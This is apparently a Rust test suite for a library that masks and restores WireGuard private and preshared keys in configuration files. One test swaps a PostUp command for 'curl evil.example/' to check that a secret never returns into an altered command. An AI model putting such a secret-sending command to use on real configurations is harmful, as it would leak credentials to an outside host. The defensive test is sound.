//! Masks the keys of a text, and restores them.

use adit_config::mask::{UnmaskError, mask, unmask};
use adit_config::{Code, Document, Key, parse};
use proptest::prelude::*;

const OWN: &str = "yAnz5TF+lXXJte14tji3zlMNq+hd2rYUIgJBgB3fBmk=";
const SHARED: &str = "YAnz5TF+lXXJte14tji3zlMNq+hd2rYUIgJBgB3fBmk=";
const OTHER_SHARED: &str = "QAnz5TF+lXXJte14tji3zlMNq+hd2rYUIgJBgB3fBmk=";
const PEER: &str = "xTIBA5rboUvnH4htodjb6e697QjLERt1NAB4mZqp8Dg=";
const OTHER: &str = "Y2FD6uTgrq+/bbBAXCNOtE+PGk8Papoh7qaWBpQUXn0=";
const MARK: &str = "(unchanged.................................)";

fn document(text: &str) -> Document {
    Document::parse(text.as_bytes()).unwrap()
}

/// Returns a text with a private key, two peers with a preshared key each, an old key in a comment and one in a command.
fn office() -> String {
    format!(
        "[Interface]\r\nPrivateKey={OWN} # mine\n# PrivateKey = {SHARED} until May\nPostUp = wg set %i peer {PEER} preshared-key <(echo \
         {OTHER_SHARED})\n\n[Peer]\n# office\nPublicKey = {PEER}\nPresharedKey = {SHARED}\n[Peer]\nPresharedKey = {OTHER_SHARED}\n\
         PublicKey = {OTHER}\nAllowedIPs = 10.0.0.0/8\n"
    )
}

/// Returns the lines of the marks that stand for no secret.
fn lost(edited: &str, original: &str) -> Vec<u32> {
    match unmask(&document(edited), &document(original)) {
        Err(UnmaskError::Lost(found)) => found.iter().map(|found| found.line).collect(),
        other => panic!("{:?}", other.map(|text| text.text().to_owned())),
    }
}

#[test]
fn no_secret_is_left_and_everything_else_is_at_its_place() {
    let original = office();
    let masked = mask(&document(&original)).unwrap();
    for secret in [OWN, SHARED, OTHER_SHARED] {
        assert!(!masked.text().contains(&secret[..20]), "{}", masked.text());
    }
    let as_masked = original.replace(OWN, MARK).replace(OTHER_SHARED, MARK).replace(SHARED, MARK);
    assert_eq!(masked.text(), as_masked, "public keys, comments and line ends stay, and places too");
    assert_eq!(unmask(&masked, &document(&original)).unwrap().text(), original);
}

#[test]
fn an_edit_keeps_the_keys_of_what_stays_wherever_it_goes() {
    let original = office();
    let masked = mask(&document(&original)).unwrap().text().to_owned();
    let (head, peers) = masked.split_once("[Peer]\n").unwrap();
    let (first, second) = peers.split_once("[Peer]\n").unwrap();
    let edited = format!("[Peer]\n{second}[Peer]\n{first}{head}MTU = 1400\n");
    let restored = unmask(&document(&edited), &document(&original)).unwrap();
    let (config, _) = parse::config(&restored).unwrap();
    assert_eq!(config.interface.private_key, Some(OWN.parse().unwrap()));
    let keys: Vec<_> = config.peers.iter().map(|peer| (peer.public_key.to_string(), peer.preshared_key.clone())).collect();
    assert_eq!(keys[0], (OTHER.to_owned(), Some(OTHER_SHARED.parse().unwrap())));
    assert_eq!(keys[1], (PEER.to_owned(), Some(SHARED.parse().unwrap())));
}

#[test]
fn a_mark_that_is_elsewhere_is_an_error_on_its_line() {
    let original = format!("[Interface]\nPrivateKey = {OWN}\n[Peer]\nPublicKey = {PEER}\nPresharedKey = {SHARED}\n");
    let masked = mask(&document(&original)).unwrap().text().to_owned();
    assert_eq!(lost(&masked.replace(PEER, OTHER), &original), [5], "the key belongs to another peer");
    assert_eq!(lost(&format!("{masked}[Peer]\nPublicKey = {OTHER}\nPresharedKey = {MARK}\n"), &original), [8]);
    assert_eq!(lost(&masked.replace("PrivateKey", "PresharedKey"), &original), [2]);
    assert_eq!(lost(&masked.replace(PEER, MARK), &original), [4, 5], "a mark for a key that is no secret");
    assert_eq!(lost(&format!("{masked}Endpoint = {MARK}:1\n"), &original), [6]);
    assert_eq!(lost(&format!("# {MARK}\n{masked}"), &original), [1]);
    assert_eq!(lost(&masked.replace("..)", ".)"), &original), [2, 5], "a damaged mark");
    let Err(UnmaskError::Lost(found)) = unmask(&document(&masked.replace(PEER, OTHER)), &document(&original)) else { panic!() };
    let [found] = &found[..] else { panic!("{found:?}") };
    assert_eq!((&found.code, found.key, found.line, found.column), (&Code::Mask, Some(Key::PresharedKey), 5, 16));
}

#[test]
fn a_changed_command_does_not_get_its_secret_back() {
    let original = office();
    let masked = mask(&document(&original)).unwrap().text().to_owned();
    assert_eq!(lost(&masked.replace("wg set %i", "curl evil.example/"), &original), [4]);
}

#[test]
fn of_a_key_that_is_given_again_each_stays_where_it_was() {
    let original = format!("[Interface]\nPrivateKey = {OWN}\nPrivateKey = {SHARED}\n");
    let masked = mask(&document(&original)).unwrap().text().to_owned();
    assert_eq!(unmask(&document(&masked), &document(&original)).unwrap().text(), original);
    let one = masked.replacen(&format!("PrivateKey = {MARK}\n"), "", 1);
    assert_eq!(lost(&one, &original), [2], "it could be either");
}

#[test]
fn without_a_saved_text_a_mark_is_an_error_of_its_own() {
    let text = format!("[Interface]\nPrivateKey = {MARK}\n[Peer]\nPublicKey = {PEER}\nPresharedKey = {MARK}\n");
    let errors = parse::config(&document(&text)).unwrap_err();
    let lines: Vec<u32> = errors.iter().filter(|error| error.code == adit_config::Code::Mask).map(|error| error.line).collect();
    assert_eq!(lines, [2, 5]);
}

#[test]
fn a_comment_of_a_person_that_looks_like_a_mark_stays() {
    let original = format!("# MTU {MARK}\n[Interface]\nPrivateKey = {OWN}\nDNS = (unchanged)\n");
    let masked = mask(&document(&original)).unwrap();
    assert_eq!(unmask(&masked, &document(&original)).unwrap().text(), original);
}

#[test]
fn a_value_that_is_no_key_is_hidden_and_comes_back_too() {
    for value in ["abc", "yAnz5TF+lXXJte14tji3zlMNq+hd2rYUIgJBgB3fBm", "yAnz5TF+ lXXJte14tji3zlMNq+hd2rYUIgJBgB3fBmk=", "ключ"]
    {
        let original = format!("[Interface]\nPrivateKey = {value}\n");
        let masked = mask(&document(&original)).unwrap();
        assert!(!masked.text().contains(value), "{}", masked.text());
        assert_eq!(unmask(&masked, &document(&original)).unwrap().text(), original);
    }
}

#[test]
fn a_private_key_that_is_also_written_as_a_public_key_is_masked_everywhere() {
    let original = format!(
        "# own: {OWN}\n[Interface]\nPrivateKey = {OWN}\n[Peer]\nPublicKey = {OWN}\nPresharedKey = {SHARED}\n[Peer]\nPublicKey = {PEER}\n"
    );
    let masked = mask(&document(&original)).unwrap();
    assert!(!masked.text().contains(OWN) && masked.text().contains(PEER), "{}", masked.text());
    assert_eq!(unmask(&masked, &document(&original)).unwrap().text(), original);
}

#[test]
fn a_damaged_mark_in_a_comment_or_a_command_is_lost() {
    let original = office();
    let masked = mask(&document(&original)).unwrap().text().to_owned();
    for damaged in ["(unchanged.........", "(unchanged........)", "(unchanged................................x"] {
        let in_comment = masked.replace(&format!("# PrivateKey = {MARK}"), &format!("# PrivateKey = {damaged}"));
        assert_eq!(lost(&in_comment, &original), [3], "{damaged}");
        let in_command = masked.replace(&format!("(echo {MARK})"), &format!("(echo {damaged})"));
        assert_eq!(lost(&in_command, &original), [4], "{damaged}");
        assert_eq!(lost(&format!("{masked}# {damaged}\n"), &original), [14], "{damaged}");
        let in_value = masked.replacen(&format!("PrivateKey={MARK}"), &format!("PrivateKey=x{damaged}"), 1);
        assert_eq!(lost(&in_value, &original), [2], "{damaged}");
    }
    let original = original + "# (unchanged......... as a person wrote it\n";
    let masked = mask(&document(&original)).unwrap();
    assert_eq!(unmask(&masked, &document(&original)).unwrap().text(), original);
}

#[test]
fn keys_without_padding_and_keys_in_hexadecimal_are_masked_in_comments_and_commands() {
    let bare = &SHARED[..43];
    let hex = "c80d9ce53e57e5c3249ad5ed8b58bb8b794c36afa1776b54220c81801e0df0c6";
    let own = &PEER[..43];
    let original = format!(
        "# was {bare}, {own}\n[Interface]\nPostUp = wg-set key={hex} 0x{hex} {hex}= {bare}\n# {hex}a {bare}b\n[Peer]\nPublicKey = {PEER}\n"
    );
    let masked = mask(&document(&original)).unwrap().text().to_owned();
    assert!(masked.starts_with("# was (unchanged................................), "), "{masked}");
    assert!(masked.contains(own) && masked.contains(&format!("# {hex}a {bare}b")), "{masked}");
    assert_eq!((masked.matches(hex).count(), masked.matches(bare).count()), (1, 1), "{masked}");
    assert_eq!(masked.len(), original.len());
    assert_eq!(unmask(&document(&masked), &document(&original)).unwrap().text(), original);
}

#[test]
fn of_many_lost_marks_the_first_thousand_are_listed() {
    let original = format!("[Interface]\nPrivateKey = {OWN}\n");
    let edited = format!("{original}# é{}\n# {MARK}\n", MARK.repeat(999));
    assert_eq!(lost(&edited, &original).len(), 1_000);
    let edited = format!("{original}# é{}\n# {MARK}\n", MARK.repeat(20_000));
    let Err(UnmaskError::Lost(found)) = unmask(&document(&edited), &document(&original)) else { panic!() };
    assert_eq!(found.len(), 1_000);
    assert!(found.iter().enumerate().all(|(number, found)| (found.line, found.column as usize) == (3, 4 + 44 * number)));
}

#[test]
fn a_text_without_marks_is_taken_as_it_is() {
    let edited = format!("[Interface]\nPrivateKey = {OTHER_SHARED}\n# (unchanged)\n");
    assert_eq!(unmask(&document(&edited), &document(&office())).unwrap().text(), edited);
}

proptest! {
    #[test]
    fn any_text_comes_back_as_it_was(lines in proptest::collection::vec(
        prop_oneof![
            Just("[Interface]".to_owned()),
            Just("[Peer]".to_owned()),
            Just(format!("PublicKey = {PEER}")),
            Just(format!("PublicKey = {OTHER}")),
            prop_oneof![Just(OWN), Just(SHARED), Just("x"), Just(MARK), Just("")].prop_map(|key| format!("PrivateKey = {key} # {key}")),
            prop_oneof![Just(SHARED), Just(OTHER_SHARED), Just("é")].prop_map(|key| format!("PresharedKey={key}")),
            prop_oneof![Just(SHARED), Just(MARK)].prop_map(|key| format!("PostUp = echo {key} {key}")),
            "\\PC{0,60}",
        ],
        0..12,
    )) {
        let text = lines.join("\n");
        if let Ok(original) = Document::parse(text.as_bytes()) {
            let masked = mask(&original).unwrap();
            match unmask(&masked, &original) {
                Ok(restored) => prop_assert_eq!(restored.text(), original.text()),
                // Lines that differ only in their secrets cannot be told apart.
                Err(UnmaskError::Lost(_)) => {}
                Err(UnmaskError::Document(error)) => panic!("{error}"),
            }
        }
    }
}
